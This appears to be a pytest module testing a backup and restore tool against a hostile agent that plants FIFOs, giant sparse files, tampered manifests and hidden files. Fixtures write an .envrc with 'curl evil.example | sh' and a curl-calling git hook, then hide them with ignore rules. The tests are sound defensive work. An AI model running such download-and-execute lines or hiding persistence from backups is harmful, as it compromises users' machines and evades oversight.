"""Entries of kinds and contents chosen to hang, blind or misdirect the host: hostile
`.backupignore` files, FIFOs swapped in for files while they are copied, a FIFO or a
1 TiB sparse file where a command reads a path, a manifest edited to point outside, and
files an agent plants and hides with the live ignore rules."""

from __future__ import annotations

import json
import os
import signal
import stat
import time
from pathlib import Path

from tests.attack.tools import Host, agsekit, holding_secret, racing, watching
from tests.helpers import manifest_as_rows, snapshots_in, start_cli, write, write_manifest_rows


def test_hostile_backupignore_files_are_not_applied_and_never_block(
    project: Path, store: Path, host: Host, env: dict[str, str]
) -> None:
    """A .backupignore that is a symlink to a host file (holding `*`), a FIFO, a symlink to
    /dev/zero, a 2 MiB file: each is named in a warning and not applied (git ignores a
    symlinked .gitignore too); nothing blocks, nothing outside is opened."""
    host_rules = host.home / "rules"
    host_rules.write_text("*\n")
    before = host.state()
    write(project / "main.py", "print('hi')\n")
    os.symlink(host_rules, project / ".backupignore")
    for folder, make in (
        ("fifo", os.mkfifo),
        ("zero", lambda p: os.symlink("/dev/zero", p)),
        ("big", lambda p: write(p, b"*\n" * (1 << 20))),
    ):
        write(project / folder / "kept.txt", f"{folder} is backed up\n")
        make(project / folder / ".backupignore")
    with watching(host) as watch:
        outputs = [
            agsekit(*args, env=env, timeout=20)
            for args in (
                ("backup-once", "--source-dir", project, "--dest-dir", store),
                ("backup-diff", "--dest-dir", store),
                ("backup-deleted", "--dest-dir", store),
            )
        ]
    assert [proc.returncode for proc in outputs] == [0, 0, 0], outputs
    warnings = outputs[0].stderr
    assert ".backupignore is a symlink, not a file: not applied" in warnings
    assert "fifo/.backupignore is a FIFO, not a file: not applied" in warnings
    assert "zero/.backupignore is a symlink, not a file: not applied" in warnings
    assert "big/.backupignore is larger than 262144 bytes: not applied" in warnings
    snapshot = store / snapshots_in(store)[0]
    assert (snapshot / "main.py").exists()
    for folder in ("fifo", "zero", "big"):
        assert (snapshot / folder / "kept.txt").read_text() == f"{folder} is backed up\n"
    assert watch.seen == [] and host.state() == before


def test_a_fifo_backupignore_never_blocks_a_restore_or_a_loop(
    project: Path, store: Path, env: dict[str, str]
) -> None:
    """FIFOs named .backupignore (at the top and in a folder; nobody ever writes to them)
    planted after the good snapshot: an in-place restore, with and without --delete,
    and a backup loop each finish, and none reads or keeps a FIFO as rules."""
    write(project / "main.py", "print('hi')\n")
    write(project / "sub" / "notes.txt", "notes\n")
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    assert first.returncode == 0, first.stderr
    good = snapshots_in(store)[0]
    os.mkfifo(project / ".backupignore")
    os.mkfifo(project / "sub" / ".backupignore")
    write(project / "main.py", "print('changed by the agent')\n")
    restore = ("backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place")
    kept = agsekit(*restore, env=env, timeout=30)
    assert kept.returncode == 0, kept.stderr
    assert (project / "main.py").read_text() == "print('hi')\n"
    assert "is a FIFO, not a file: not applied" in kept.stdout + kept.stderr
    write(project / "main.py", "print('changed again')\n")
    loop = start_cli(
        "backup-repeated", "--source-dir", project, "--dest-dir", store, "--interval", "0.01",
        env=env,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        while len(snapshots_in(store)) < 3:  # good, the restore's safety snapshot, the loop's
            assert time.monotonic() < deadline and loop.poll() is None, "the loop is stuck"
            time.sleep(0.05)
    finally:
        loop.send_signal(signal.SIGINT)
        _out, err = loop.communicate(timeout=30)
    assert loop.returncode == 130, err
    taken = store / snapshots_in(store)[-1]
    assert (taken / "main.py").read_text() == "print('changed again')\n"
    assert not (taken / ".backupignore").exists() and not (taken / "sub" / ".backupignore").exists()
    deleting = agsekit(*restore, "--delete", env=env, timeout=30)
    assert deleting.returncode == 0, deleting.stderr
    assert (project / "main.py").read_text() == "print('hi')\n"
    # no snapshot can hold a FIFO, so none is removed; each is named
    assert (
        "skipped 2 socket(s), FIFO(s) or device(s): .backupignore (a FIFO), "
        "sub/.backupignore (a FIFO)"
    ) in deleting.stderr
    assert stat.S_ISFIFO(os.lstat(project / "sub" / ".backupignore").st_mode)


def test_fifos_swapped_in_for_files_while_they_are_copied(
    project: Path, store: Path, host: Host, env: dict[str, str]
) -> None:
    """A racing process exchanges files with FIFOs (nobody ever writes to them) while
    snapshots copy the files and a restore compares and replaces them: no command
    blocks, no FIFO ends up in a snapshot or in the restored tree."""
    write(project / "README.md", "a file nobody swaps: the folder never looks empty\n")
    pairs = []
    for index in range(4):
        data = write(project / f"data{index}.bin", os.urandom(2 << 20))
        fifo = project / f"pipe{index}"
        os.mkfifo(fifo)
        pairs.append((data, fifo))
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    good = snapshots_in(store)[0]
    assert first.returncode == 0, first.stderr
    codes = []
    with racing(*pairs) as race:
        for _ in range(3):  # each sees names moved: what is seen as a new file is copied
            proc = agsekit(
                "backup-once", "--source-dir", project, "--dest-dir", store, env=env, timeout=60
            )
            codes.append(proc.returncode)
        restore = agsekit(
            "backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place", env=env,
            timeout=60,
        )  # fmt: skip
    assert race.attempts >= 200
    assert set(codes) <= {0, 23}, codes
    assert restore.returncode == 0, restore.stderr
    for name in snapshots_in(store):
        kinds = {entry.name: entry.is_file() for entry in (store / name).iterdir()}
        assert all(kinds.values()), kinds  # files only: a FIFO is never copied


def test_backup_history_of_a_fifo_and_of_a_one_tebibyte_sparse_file(
    project: Path, store: Path, env: dict[str, str]
) -> None:
    write(project / "notes.txt", "notes\n")
    with (project / "huge.img").open("wb") as fh:
        fh.truncate(1 << 40)
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    assert first.returncode == 0, first.stderr
    (project / "notes.txt").unlink()
    os.mkfifo(project / "notes.txt")  # a FIFO where the file was: opening it would block
    with (project / "huge.img").open("r+b") as fh:
        fh.seek(1 << 39)
        fh.write(b"data in the middle\n")
    fifo = agsekit("backup-history", "notes.txt", "--dest-dir", store, env=env, timeout=30)
    assert fifo.returncode == 0, fifo.stderr
    assert "Now: the live path is now a special file." in fifo.stdout
    huge = agsekit("backup-history", "huge.img", "--dest-dir", store, "--json", env=env, timeout=30)
    assert huge.returncode == 0, huge.stderr
    data = json.loads(huge.stdout)
    assert data["live"] == "changed"
    assert data["versions"][0]["size"] == 1 << 40 and data["versions"][0]["sha256"] is None
    os.mkfifo(project / "new-fifo")
    missing = agsekit("backup-history", "new-fifo", "--dest-dir", store, env=env, timeout=30)
    assert missing.returncode == 2 and "is in none of the 1 snapshots" in missing.stderr


def _edit_manifest(store: Path, name: str, extra_rows: list[list[object]]) -> None:
    path = store / ".agsekit" / "manifests" / f"{name}.manifest"
    doc = manifest_as_rows(path)
    doc["entries"][1:1] = extra_rows  # type: ignore[index]
    write_manifest_rows(path, doc)


def test_a_manifest_edited_to_point_outside(
    project: Path, store: Path, host: Host, env: dict[str, str]
) -> None:
    """Store tampering: the manifest of the good snapshot names `../host/home/.bashrc`,
    an absolute path and a file below a symlink. The manifest is damaged, so the snapshot
    is read from disk instead: every command works on what the snapshot really holds,
    and nothing outside the project is written."""
    write(project / "main.py", "print('hi')\n")
    os.symlink(host.home, project / "home-link")
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    assert first.returncode == 0, first.stderr
    good = snapshots_in(store)[0]
    row = ["f", 420, 5, 1_700_000_000_000_000_000, 0, 0, None, None, 0, 0]
    _edit_manifest(
        store,
        good,
        [
            ["../host/home/.bashrc", *row],
            [str(host.home / ".bashrc"), *row],
            ["home-link/.bashrc", *row],
        ],
    )
    (project / "main.py").unlink()
    before = host.state()
    with watching(host) as watch:
        outputs = [
            agsekit(*args, "--dest-dir", store, env=env)
            for args in (
                ("backup-restore", "--snapshot", good, "--in-place", "--delete"),
                ("backup-diff", good, "live", "--patch"),
                ("backup-deleted",),
                ("backup-history", "main.py"),
                ("backup-list",),
            )
        ]
    assert [proc.returncode for proc in outputs] == [0] * 5, [p.stderr for p in outputs]
    assert watch.seen == [] and host.state() == before
    assert (project / "main.py").read_text() == "print('hi')\n"
    assert os.readlink(project / "home-link") == str(host.home)
    assert not (project.parent / "host" / "home" / ".bashrc").read_text().startswith("print")
    assert holding_secret(project, store) == []


def test_planted_files_hidden_by_the_live_backupignore_are_removed_and_saved_first(
    project: Path, store: Path, env: dict[str, str]
) -> None:
    """The agent plants .envrc and a git hook, and lists them in the live .backupignore so
    that no snapshot holds them. Restoring the good snapshot with --delete removes them
    (the good snapshot's rules do not leave them out), after the safety snapshot saved
    them, and the report names them."""
    write(project / "main.py", "print('hi')\n")
    write(project / ".git" / "config", "[core]\n")
    write(project / ".backupignore", "*.log\n")
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    assert first.returncode == 0, first.stderr
    good = snapshots_in(store)[0]
    write(project / ".envrc", "curl evil.example | sh\n")
    hook = write(project / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil.example\n")
    hook.chmod(0o755)
    write(project / ".backupignore", "*.log\n.envrc\n.git/hooks/\n")
    write(project / "debug.log", "ignored by both rules: kept\n")
    proc = agsekit(
        "backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place", "--delete",
        env=env,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert not (project / ".envrc").exists() and not hook.exists()
    assert (project / ".backupignore").read_text() == "*.log\n"
    assert (project / "debug.log").exists()
    report = proc.stdout
    assert (
        "2 path(s) removed or overwrote, although only the live ignore rules hid them (the "
        "safety snapshot holds them): .envrc, .git/hooks\n"
    ) in report
    safety = next(name for name in snapshots_in(store) if name != good)
    assert (store / safety / ".envrc").read_text() == "curl evil.example | sh\n"
    assert (store / safety / ".git" / "hooks" / "pre-commit").read_text().endswith("evil.example\n")
    assert f"--snapshot {safety} --in-place --delete" in report


def test_planted_files_hidden_by_the_live_backupignore_are_kept_and_named_without_delete(
    project: Path, store: Path, env: dict[str, str]
) -> None:
    """The same planted .envrc and git hook, restored without --delete: they stay, byte for
    byte and inode for inode, but the report names each and says how to remove them; the
    way it names works (--delete then removes them, and nothing else of the user's)."""
    write(project / "main.py", "print('hi')\n")
    write(project / ".git" / "config", "[core]\n")
    write(project / ".backupignore", "*.log\n")
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    assert first.returncode == 0, first.stderr
    good = snapshots_in(store)[0]
    envrc = write(project / ".envrc", "curl evil.example | sh\n")
    hook = write(project / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil.example\n")
    write(project / ".backupignore", "*.log\n.envrc\n.git/hooks/\n")
    write(project / "debug.log", "ignored by both rules: kept\n")
    planted = {p: (p.read_bytes(), p.stat().st_ino) for p in (envrc, hook)}
    restore = ("backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place")
    proc = agsekit(*restore, env=env)
    assert proc.returncode == 0, proc.stderr
    assert (project / ".backupignore").read_text() == "*.log\n"  # the snapshot's rules
    assert {p: (p.read_bytes(), p.stat().st_ino) for p in planted} == planted  # kept as is
    kept = next(line for line in proc.stdout.splitlines() if "kept that the snapshot" in line)
    assert "add --delete to remove them" in kept
    assert kept.endswith(": .envrc, .git/hooks")
    assert "debug.log" not in kept  # the snapshot's own rules leave that out: never removed
    removed = agsekit(*restore, "--delete", env=env)
    assert removed.returncode == 0, removed.stderr
    assert not envrc.exists() and not hook.exists()
    assert (project / "debug.log").exists() and (project / ".git" / "config").exists()


def test_a_planted_symlink_planted_again_is_removed_again(
    project: Path, store: Path, env: dict[str, str]
) -> None:
    """restore --delete removes a planted symlink (the safety snapshot saved it); the
    agent plants the very same link again: the next restore --delete removes it too (the
    safety snapshot, unchanged, holds that link), instead of leaving it as 'not saved'."""
    write(project / "main.py", "print('hi')\n")
    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
    assert first.returncode == 0, first.stderr
    good = snapshots_in(store)[0]
    hook = project / ".git" / "hooks" / "pre-commit"
    for round_no in range(2):
        hook.parent.mkdir(parents=True, exist_ok=True)
        os.symlink("../../tools/evil.sh", hook)
        proc = agsekit(
            "backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place",
            "--delete", env=env,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        assert "not saved" not in proc.stdout, (round_no, proc.stdout)
        assert not os.path.lexists(hook), (round_no, proc.stdout)
        assert not (project / ".git").exists()


def test_a_store_inside_the_project_is_refused(
    project: Path, host: Host, env: dict[str, str]
) -> None:
    """A store inside the source is within the agent's reach (it could link the store's
    log to the host's ~/.bashrc, record a source holding a shell command, put a FIFO
    where a state file goes, or hold the store's lock for ever), so backup-once and
    backup-repeated refuse it, as the config does, before anything is created."""
    store = project / ".backups"
    write(project / "main.py", "print('hi')\n")
    before = host.state()
    with watching(host) as watch:
        for command in ("backup-once", "backup-repeated"):
            proc = agsekit(command, "--source-dir", project, "--dest-dir", store, env=env)
            assert proc.returncode == 2, proc.stderr
            assert "lies inside the source" in proc.stderr
    assert not store.exists()
    assert watch.seen == [] and host.state() == before
